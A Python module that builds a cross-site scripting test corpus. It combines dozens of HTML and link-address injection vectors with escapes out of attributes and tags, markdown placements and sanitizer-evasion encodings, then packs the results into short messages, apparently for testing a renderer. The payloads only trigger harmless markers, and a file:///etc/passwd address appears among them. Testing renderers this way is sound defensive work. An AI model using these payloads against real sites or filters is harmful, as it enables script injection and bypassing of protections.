"""Texts that would run as script, load something or steer the page where they are drawn as anything but text.

They are made by a rule, not collected: what would run or load (`VECTORS`, `ADDRESSES`), the ways out of the
place where it is put (`WAYS_OUT`), the disguises that a filter might not see through (`DISGUISES`), and the
places that markdown has for a text (`PLACES`). Whatever of it runs calls `alert`, sets `ran`, or asks for
`/ran`.
"""

import html
from collections.abc import Callable, Iterator
from itertools import cycle
from urllib.parse import quote

SCRIPTS = ("alert(1)", "ran=1", "self['ran']=1", "top.ran=1", "fetch('/ran')", "import('/ran.js')")

VECTORS = (
    "<script>{js}</script>",
    "<script src=/ran.js></script>",
    "<script type=module>{js}</script>",
    "<img src=/ran.png onerror={js}>",
    "<img src=x:x onerror={js}//",
    "<img srcset='/ran.png 1x'>",
    "<image href=/ran.png onerror={js}>",
    "<picture><source srcset=/ran.png><img onload={js}></picture>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{js}'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'>",
    "<svg><image href=/ran.png>",
    "<math><maction actiontype=statusline xlink:href='javascript:{js}'>x",
    "<math><mtext><table><mglyph><style><!--</style><img src=/ran.png onerror={js}>",
    "<svg></p><style><a id='</style><img src=/ran.png onerror={js}>'>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=/ran></iframe>",
    "<frameset onload={js}>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<object data=/ran></object>",
    "<embed src='javascript:{js}'>",
    "<applet code=ran></applet>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}><option>x</select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>x</button>",
    "<a href='javascript:{js}' autofocus onfocus={js}>x</a>",
    "<a ping=/ran href=#>x</a>",
    "<div contenteditable autofocus onfocus={js}>x</div>",
    "<div style='position:fixed;inset:0' onpointerenter={js}>x</div>",
    "<div style='background:url(/ran.png)'>x</div>",
    "<p style='width:expression({js})'>x",
    "<p id=app onclick={js}>x</p>",
    "<style>@import '/ran.css'; *{{background:url(/ran.png)}}</style>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=/ran.css>",
    "<link rel=modulepreload href=/ran.js>",
    "<link rel=prefetch href=/ran onload={js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=//192.0.2.1/>",
    "<form action='javascript:{js}'><button autofocus>x</form>",
    "<form id=document><input name=body></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<isindex action='javascript:{js}' type=image>",
    "<video src=/ran.mp4 onerror={js}></video>",
    "<video poster=/ran.png><track default src=/ran.vtt></video>",
    "<audio autoplay src=/ran.ogg onerror={js}></audio>",
    "<marquee onstart={js}>x</marquee>",
    "<table background=/ran.png><td>x</table>",
    "<dialog open onbeforetoggle={js}>x</dialog>",
    "<div popover onbeforetoggle={js}>x</div>",
    "<slot onslotchange={js}></slot>",
    "<x-ran onanimationstart={js} style='animation:x 1s'>x",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=/ran.png onerror={js}>'>",
    "<xmp><p title='</xmp><img src=/ran.png onerror={js}>'>",
    "<!--><img src=/ran.png onerror={js}>-->",
    "<![CDATA[<img src=/ran.png onerror={js}>]]>",
    "<?xml-stylesheet href='javascript:{js}'?>",
    "<a id=client><a id=client name=send>x</a>",
    "{{@html '<img src=/ran.png onerror={js}>'}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<%= {js} %>",
)
"""What runs or loads as soon as it is drawn as HTML."""

ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    "\u00a0javascript:{js}",
    "javascript\u200b:{js}",
    "&#106;avascript:{js}",
    "&#x6a avascript&colon;{js}",
    "javascript&Tab;:{js}",
    "%6aavascript:{js}",
    "javascript://x%0a{js}",
    "javascript:'<script>{js}</script>'",
    "vbscript:msgbox(1)",
    "livescript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={js}>",
    "blob:https://127.0.0.1/ran",
    "file:///etc/passwd",
    "view-source:/ran",
    "//192.0.2.1/ran",
    "\\\\192.0.2.1\\ran",
    "https:/ran",
    "http:javascript:{js}",
    'https://192.0.2.1/" onmouseover="{js}',
    "https://192.0.2.1/' autofocus onfocus='{js}",
    "https://192.0.2.1/><img src=/ran.png onerror={js}>",
    "https://192.0.2.1/)](javascript:{js})",
    "https://javascript:{js}@192.0.2.1/",
    "HTTPS://192.0.2.1/\u202ejs.ran",
)
"""What runs or leads elsewhere as the address of a link, or gets out of it."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "</p>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    '" x="',
)
PLACES = (
    "{}",
    "**{}**",
    "*{}*",
    "`{}`",
    "``` {}\nx\n```",
    "```\n{}\n```",
    "> {}",
    "- {}",
    "[{}](https://192.0.2.1/)",
    "[here]({})",
    "[here](https://192.0.2.1/{})",
    "![here]({})",
    "<{}>",
    "@ann {}",
)


def _mixed_case(text: str) -> str:
    return "".join(char.upper() if place % 2 else char.lower() for place, char in enumerate(text))


def _full_width(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if char in "<>\"'=/()" else char for char in text)


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    _mixed_case,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(char)};" for char in text[:40]),
    lambda text: "".join(f"&#x{ord(char):04x}" for char in text[:40]),
    lambda text: quote(text),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    _full_width,
    lambda text: text.replace("<", "<\0"),
    lambda text: text.replace("<", "<\u200b").replace("on", "o\u00adn"),
    lambda text: text.replace(" ", "\t").replace("<", "\u202e<"),
    lambda text: text.replace(" ", "/").replace("script", "scr\x00ipt"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\x1b]8;;<\x07"),
)


def _scripted(patterns: tuple[str, ...]) -> Iterator[str]:
    scripts = cycle(SCRIPTS)
    return (pattern.format(js=next(scripts)) for pattern in patterns)


def vectors() -> list[str]:
    """Return each vector and each address once, plain."""
    return [*_scripted(VECTORS), *_scripted(ADDRESSES)]


def all_texts() -> list[str]:
    """Return the corpus: each vector under each disguise, behind each way out, at each place; none twice."""
    made: dict[str, None] = {}
    for number, vector in enumerate(vectors()):
        for turn, disguise in enumerate(DISGUISES):
            place = PLACES[(number + turn) % len(PLACES)]
            made[place.replace("{}", disguise(vector))] = None
        for way_out in WAYS_OUT:
            made[way_out + vector] = None
        for place in PLACES:
            made[place.replace("{}", vector)] = None
    return list(made)


def packed(size: int) -> list[str]:
    """Return lines of at most `size` characters in which all vectors stand that fit into one."""
    lines = [""]
    for vector in vectors():
        if len(vector) >= size or not vector.isprintable():
            continue
        if len(lines[-1]) + len(vector) >= size:
            lines.append("")
        lines[-1] = f"{lines[-1]} {vector}".strip()
    return lines


def words(size: int) -> list[str]:
    """Return texts without blanks of at most `size` bytes: what fits where an emoji is due."""
    texts = {vector.replace(" ", "/").replace("/ran.png", "x") for vector in vectors()}
    return sorted(text for text in texts if len(text.encode()) <= size and text.isprintable())


def in_messages(texts: list[str]) -> Iterator[str]:
    """Return messages in which these texts stand, so short that each is drawn whole; they are numbered."""
    held: list[str] = []
    number = 0
    for text in texts:
        if held and (len("\n".join([*held, text])) > 1800 or len("\n".join([*held, text]).splitlines()) > 18):
            number += 1
            yield _message(number, held)
            held = []
        held.append(text)
    yield _message(number + 1, held)


def _message(number: int, texts: list[str]) -> str:
    return "\n".join([f"number{number}", *texts])
